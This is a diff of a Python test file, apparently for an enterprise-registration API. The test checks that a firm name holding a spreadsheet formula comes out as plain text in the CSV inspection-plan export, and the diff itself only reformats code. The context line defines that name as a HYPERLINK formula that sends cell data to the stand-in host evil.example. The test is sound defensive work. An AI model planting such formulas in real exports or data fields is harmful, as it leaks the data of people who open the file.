@@ -13,11 +13,15 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"演示")'
 def test_a_formula_in_a_firm_name_is_plain_text_in_the_inspection_plan(client, make: Builder):
     headers = make.headers("regulator", region="3211")
     code = make.uscc("321102")
-    registered = client.post("/api/v1/enterprises", headers=headers,
-                             json={"uscc": code, "name": EVIL_NAME})
+    registered = client.post(
+        "/api/v1/enterprises", headers=headers, json={"uscc": code, "name": EVIL_NAME}
+    )
     assert registered.status_code == 201, registered.get_json()
-    response = client.get("/api/v1/inspection-plan", headers={**headers, "Accept": "text/csv"},
-                          query_string={"region": "321102", "date": "2026-01-05", "seed": 7})
+    response = client.get(
+        "/api/v1/inspection-plan",
+        headers={**headers, "Accept": "text/csv"},
+        query_string={"region": "321102", "date": "2026-01-05", "seed": 7},
+    )
     assert response.status_code == 200
     assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
     assert response.data.startswith(b"\xef\xbb\xbfrisk_class,")
